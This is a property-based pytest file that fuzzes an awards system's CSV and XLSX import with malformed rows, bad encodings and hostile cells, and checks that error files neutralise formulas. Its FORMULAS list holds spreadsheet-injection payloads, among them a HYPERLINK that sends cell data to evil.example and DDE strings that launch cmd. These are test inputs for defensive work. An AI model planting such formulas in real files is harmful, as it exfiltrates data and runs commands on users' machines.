"""Hostile import files: hypothesis-mutated nominations and programme records, CSV and XLSX.

Files are written with the project's own template generator (awards.services.nomination.tabular)
from rows
whose cells are drawn from good values and from what units really send: empty cells, wrong types
(numbers, dates, booleans in XLSX cells), huge strings, unknown codes, formula-looking text,
control characters, impossible dates, duplicated rows, missing, extra or reordered columns; and,
for the whole file, random bytes and other encodings. Whatever comes in:

- the import ends with an ImportResult or an ImportFileError, never any other exception;
- every problem names a row, a column and a reason;
- a rejected file changes no row count (dossier, person, programme_record);
- with --valid-only, the written rows are exactly the rows without a problem, and the error
  file lists the others with their reasons, every text cell neutralised against formula
  injection (read back with csv / openpyxl).

Bounded for CI: 30 examples per test and backend, derandomized, no deadline.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections import Counter
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from awards.bootstrap import App
from awards.errors import ImportFileError
from awards.model import Dossier, Person, ProgrammeRecord
from awards.repository.bulk import count
from awards.services.nomination.imports import ImportResult, import_nominations, import_records
from awards.services.nomination.tabular import ERROR_LABEL, FILE_LABEL, columns_of, write_rows
from awards.services.org.units import NewUnit, add_units
from awards.services.reporting.programmes import load_programme
from tests.support import seed004
from tests.support.lifecycle import build_org

pytestmark = [pytest.mark.slow]
NOW = datetime(2025, 3, 3, 9, 0, tzinfo=UTC)
FUZZ = settings(
    max_examples=30,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=list(HealthCheck),
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=1+2",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "\t=cmd|' /C calc'!A0",
    "\r=2",
    "=cmd|' /C calc'!A0",
]
HOSTILE_TEXT = st.one_of(
    st.sampled_from(["", " ", "NO_SUCH", "CS9", "DV99", "xx", "không", "có", "ca_nhan"]),
    st.sampled_from(FORMULAS),
    st.text(min_size=1, max_size=30),
    st.text(st.characters(max_codepoint=0x1F), min_size=1, max_size=5),  # control characters
    st.sampled_from(["31/02/2022", "2022-13-01", "00/00/0000", "hôm qua", "1/1/99999", "12:00"]),
    st.sampled_from(["-5", "1.5", "1e9", "²³", "٣", "9" * 30, "2147483648", "1_000"]),
    st.integers(min_value=1, max_value=9).map(lambda k: "Đ" * (k * 1000)),  # huge strings
)
# Only XLSX keeps a cell's type; CSV cells are text.
TYPED = st.one_of(
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.dates(min_value=date(1900, 3, 1)),
    st.datetimes(min_value=datetime(1900, 3, 1)),
)
GOOD_REFS = [f"SK-{n}" for n in range(1, 9)]
GOOD: dict[str, dict[str, list[str]]] = {
    "nominations": {
        "unit": ["CS1", "THAN-UYEN"],
        "award": ["GK_CDCT", "LDTT", "BK_LDLD", "CSTDCS"],
        "kind": ["ca_nhan", "tap_the"],
        "person": ["DV1", "DV2", "DV3"],
        "collective": ["CS1"],
        "position": ["Giáo viên", ""],
        "direct": ["có", "không", ""],
        "leader": ["có", "không", ""],
        "achievement": ["Hoàn thành xuất sắc nhiệm vụ năm 2025"],
    },
    "records": {
        "unit": ["TU", "NN"],
        "day": ["01/02/2022", "15/03/2022", "2022-04-01"],
        "ref": GOOD_REFS,
        "title": ["Cải tiến quy trình", "Sáng kiến tiết kiệm điện"],
        "author": ["Lò Văn Sơn", ""],
        "value": ["1000000", "0", ""],
    },
}


@st.composite
def _row(draw: st.DrawFn, kind: str, fmt: str) -> list[Any]:
    """A good row with none, one or two cells made hostile: a single bad cell in an otherwise
    valid row is what must be caught, or it reaches the database."""
    keys = [c.key for c in columns_of(kind)]
    row: list[Any] = [draw(st.sampled_from(GOOD[kind][k])) for k in keys]
    bad = st.one_of(HOSTILE_TEXT, TYPED) if fmt == "xlsx" else HOSTILE_TEXT
    for at in draw(st.lists(st.integers(0, len(keys) - 1), max_size=2, unique=True)):
        row[at] = draw(bad)
    return row


@st.composite
def tables(draw: st.DrawFn, kind: str, fmt: str) -> tuple[list[str], list[list[Any]]]:
    """A header (the template's labels, perhaps mutated) and rows of mutated cells."""
    columns = list(columns_of(kind))
    header = [c.label for c in columns]
    rows = draw(st.lists(_row(kind, fmt), min_size=1, max_size=6))
    for _ in range(draw(st.integers(min_value=0, max_value=2))):  # duplicated rows
        rows.append(list(draw(st.sampled_from(rows))))
    change = draw(st.sampled_from(["none", "none", "drop", "extra", "shuffle", "duplicate"]))
    at = draw(st.integers(min_value=0, max_value=len(header) - 1))
    if change == "drop":
        header.pop(at)
        rows = [r[:at] + r[at + 1 :] for r in rows]
    elif change == "extra":
        header.insert(at, draw(st.sampled_from(["Ghi chú", "", "=1+1", header[at]])))
        rows = [r[:at] + [draw(HOSTILE_TEXT)] + r[at:] for r in rows]
    elif change == "shuffle":
        order = draw(st.permutations(range(len(header))))
        header = [header[i] for i in order]
        rows = [[r[i] for i in order] for r in rows]
    elif change == "duplicate":
        header.append(header[at])
        rows = [[*r, r[at]] for r in rows]
    return header, rows


def _file(path: Path, kind: str, header: list[str], rows: list[list[Any]]) -> Path:
    """Through the template generator; typed XLSX cells are set afterwards, as Excel would."""
    fmt = path.suffix.lstrip(".")
    data = write_rows(kind, [[str(v) for v in r] for r in rows], fmt)
    if fmt == "csv":
        lines = data.decode("utf-8-sig").splitlines(keepends=True)
        out = io.StringIO()
        csv.writer(out).writerow(header)
        path.write_bytes(("\ufeff" + out.getvalue() + "".join(lines[1:])).encode("utf-8"))
        return path
    wb = load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    ws.delete_rows(1, ws.max_row)
    for values in [header, *rows]:
        ws.append([v if not isinstance(v, str) else _xlsx_text(v) for v in values])
    wb.save(path)
    return path


def _xlsx_text(text: str) -> str:
    """XLSX cannot hold most control characters; the cell keeps the rest, as typed."""
    return "".join(ch for ch in text if ch >= " " or ch in "\t\n\r")


def _counts(app: App) -> tuple[int, int, int]:
    with app.uow() as uow:
        return (
            count(uow.session, Dossier),
            count(uow.session, Person),
            count(uow.session, ProgrammeRecord),
        )


@pytest.fixture
def world(tdkt: App, tmp_path: Path) -> App:
    build_org(tdkt)
    add_units(tdkt.uow, [NewUnit(c, c, "ldld_huyen", "LDLD-LC") for c in ("TU", "NN")])
    data = yaml.safe_load(seed004.programme_spec(tmp_path).read_text(encoding="utf-8"))
    data["targets"] = {"TU": {"GD1": 10}, "NN": {"GD1": 5}}
    spec = tmp_path / "p.yaml"
    spec.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    load_programme(tdkt.uow, spec)
    return tdkt


def _run(app: App, kind: str, path: Path, valid_only: bool) -> ImportResult:
    if kind == "nominations":
        return import_nominations(app.uow, path, "TK-2025", now=NOW, valid_only=valid_only)
    return import_records(app.uow, path, "MOT-TRIEU-SK", valid_only=valid_only)


def _check_problems(problems: list[tuple[int, str, str]], last_row: int) -> None:
    for row, column, reason in problems:
        assert isinstance(row, int) and 1 <= row <= last_row, (row, column, reason)
        assert isinstance(column, str) and column.strip(), (row, column, reason)
        assert isinstance(reason, str) and reason.strip(), (row, column, reason)


def _error_cells(path: Path) -> list[list[Any]]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            return [list(r) for r in csv.reader(fh)]
    ws = load_workbook(path).worksheets[0]
    for line in ws.iter_rows():
        for cell in line:
            assert cell.data_type != "f", f"formula in the error file: {cell.value!r}"
    return [list(r) for r in ws.iter_rows(values_only=True)]


def _check_error_file(result: ImportResult, kind: str) -> None:
    if not result.problems:
        assert result.error_file is None
        return
    assert result.error_file is not None and result.error_file.exists()
    cells = _error_cells(result.error_file)
    assert cells[0] == [c.label for c in columns_of(kind)] + [ERROR_LABEL]
    assert len(cells) - 1 == result.rejected == len({n for n, _, _ in result.problems})
    for value in itertools.chain.from_iterable(cells[1:]):
        text = "" if value is None else str(value)
        assert not text.startswith(FORMULA_STARTS), f"formula injection kept: {text!r}"


def _import_checked(app: App, kind: str, path: Path, last_row: int) -> str:
    """All or nothing first; then --valid-only writes exactly the rows without a problem."""
    before = _counts(app)
    try:
        result = _run(app, kind, path, valid_only=False)
    except ImportFileError as err:
        assert err.problems, f"an import error without row/column/reason: {err.message}"
        _check_problems(err.problems, last_row)
        assert _counts(app) == before, "a rejected file changed the database"
        if all(row == 1 for row, _, _ in err.problems):
            return "file refused"  # the file itself (header, encoding) is unusable
        partial = _run(app, kind, path, valid_only=True)
        _check_problems(partial.problems, last_row)
        _check_error_file(partial, kind)
        grew = [a - b for a, b in zip(_counts(app), before, strict=True)]
        assert grew[0 if kind == "nominations" else 2] == partial.written
        assert grew[1] == 0  # people are updated, never created
        return "rows refused, valid rows written" if partial.written else "rows refused"
    assert not result.problems and result.error_file is None
    grew = [a - b for a, b in zip(_counts(app), before, strict=True)]
    assert grew[0 if kind == "nominations" else 2] == result.written
    return "accepted"


@pytest.mark.postgres
@pytest.mark.parametrize("kind", ["nominations", "records"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_mutated_files_are_rejected_row_by_row(
    world: App, tmp_path: Path, kind: str, fmt: str
) -> None:
    serial = itertools.count()

    @given(table=tables(kind, fmt))
    @FUZZ
    def fuzz(table: tuple[list[str], list[list[Any]]]) -> None:
        header, rows = table
        n = next(serial)
        # Fresh record numbers per example (duplicates inside the file stay duplicates), so
        # each example meets the same database state and a failure replays the same way.
        rows = [[f"E{n}-{v}" if v in GOOD_REFS else v for v in r] for r in rows]
        path = _file(tmp_path / f"{kind}-{n}.{fmt}", kind, header, rows)
        outcomes[_import_checked(world, kind, path, last_row=len(rows) + 1)] += 1

    outcomes: Counter[str] = Counter()
    fuzz()
    # Not vacuous: the run saw refused rows and valid-only imports that wrote the good ones.
    assert outcomes["rows refused"] and outcomes["rows refused, valid rows written"], outcomes


@st.composite
def hostile_bytes(draw: st.DrawFn, kind: str) -> bytes:
    """Random bytes, a good file in another encoding, or a good file cut short."""
    good = GOOD_FILES[(kind, draw(st.sampled_from(["csv", "xlsx"])))]
    how = draw(st.sampled_from(["random", "encoding", "truncated", "empty", "bom-only"]))
    if how == "random":
        return draw(st.binary(max_size=2000))
    if how == "encoding":
        text = write_rows(kind, [GOOD_ROW[kind]], "csv").decode("utf-8-sig")
        codec = draw(st.sampled_from(["utf-16", "utf-32", "cp1258", "latin-1", "cp1252"]))
        return text.encode(codec, errors="replace")
    if how == "truncated":
        return good[: draw(st.integers(min_value=0, max_value=len(good) - 1))]
    return b"" if how == "empty" else b"\xef\xbb\xbf"


GOOD_ROW = {
    "nominations": ["CS1", "GK_CDCT", "ca_nhan", "DV1", "", "", "có", "không", "Xuất sắc"],
    "records": ["TU", "01/02/2022", "SK-X", "Cải tiến", "A", "1000"],
}
# Written once: an XLSX carries its creation time, and hypothesis needs the same bytes each draw.
GOOD_FILES = {(k, f): write_rows(k, [GOOD_ROW[k]], f) for k in GOOD_ROW for f in ("csv", "xlsx")}


@pytest.mark.postgres
@pytest.mark.parametrize("kind", ["nominations", "records"])
def test_files_that_are_not_tables_are_refused_cleanly(
    world: App, tmp_path: Path, kind: str
) -> None:
    serial = itertools.count()

    @given(data=hostile_bytes(kind), suffix=st.sampled_from([".csv", ".xlsx", ".CSV"]))
    @FUZZ
    def fuzz(data: bytes, suffix: str) -> None:
        path = tmp_path / f"{kind}-{next(serial)}{suffix}"
        path.write_bytes(data)
        lines = max(data.count(b"\n"), data.count(b"\r"))
        outcomes[_import_checked(world, kind, path, last_row=lines + 2)] += 1

    outcomes: Counter[str] = Counter()
    fuzz()
    assert outcomes["file refused"], outcomes


# Regressions for what the fuzzing found; each crashed with a non-project error before.


@pytest.mark.postgres
def test_bad_cells_are_row_problems_not_database_errors(world: App, tmp_path: Path) -> None:
    """NUL (PostgreSQL refuses it), text longer than its column, values beyond BIGINT and
    non-ASCII digits ('²'.isdigit() is True, int('²') fails) were written or looked up."""
    rows = [
        ["TU\x00", "01/02/2022", "R-1", "Cải tiến", "", ""],
        ["TU", "01/02/2022", "R" * 61, "Cải tiến", "", ""],
        ["TU", "01/02/2022", "R-3", "T" * 501, "", ""],
        ["TU", "01/02/2022", "R-4", "Cải tiến", "", "9223372036854775808"],
        ["TU", "01/02/2022", "R-5", "Cải tiến", "", "²"],
        ["TU", "01/02/2022", "R-6", "Cải tiến", "A", "2147483647"],
    ]
    path = tmp_path / "sk.csv"
    path.write_bytes(write_rows("records", rows, "csv"))
    before = _counts(world)
    with pytest.raises(ImportFileError) as err:
        import_records(world.uow, path, "MOT-TRIEU-SK")
    assert _counts(world) == before
    assert {(row, column) for row, column, _ in err.value.problems} == {
        (2, "Mã đơn vị"),
        (3, "Số hiệu"),
        (4, "Tên sáng kiến"),
        (5, "Giá trị làm lợi (đồng)"),
        (6, "Giá trị làm lợi (đồng)"),
    }
    assert (3, "Số hiệu", "dài 61 ký tự, quá giới hạn 60 ký tự; hãy rút gọn") in err.value.problems
    result = import_records(world.uow, path, "MOT-TRIEU-SK", valid_only=True)
    assert (result.written, result.rejected) == (1, 5)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("de-nghi.csv", "Mã đơn vị,Mã hình thức\nCS1,GK_CDCT\n".encode("utf-16")),
        ("de-nghi.csv", b""),
        ("de-nghi.xlsx", b"PK\x03\x04 not really a zip"),
        ("de-nghi.xlsx", GOOD_FILES[("nominations", "xlsx")][:2000]),
    ],
)
def test_unreadable_files_name_the_file_as_the_problem(
    sqlite_tdkt: App, tmp_path: Path, name: str, data: bytes
) -> None:
    build_org(sqlite_tdkt)
    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(ImportFileError) as err:
        import_nominations(sqlite_tdkt.uow, path, "TK-2025", now=NOW)
    [(row, column, reason)] = err.value.problems
    assert (row, column) == (1, FILE_LABEL) and reason and path.name in err.value.message


def test_error_file_shows_control_characters_instead_of_failing(tmp_path: Path) -> None:
    data = write_rows("records", [["TU\x01", "=1+2", "\x00"]], "xlsx", errors=True)
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [c.value for c in ws[2]][:3] == ["TU\ufffd", "'=1+2", "\ufffd"]
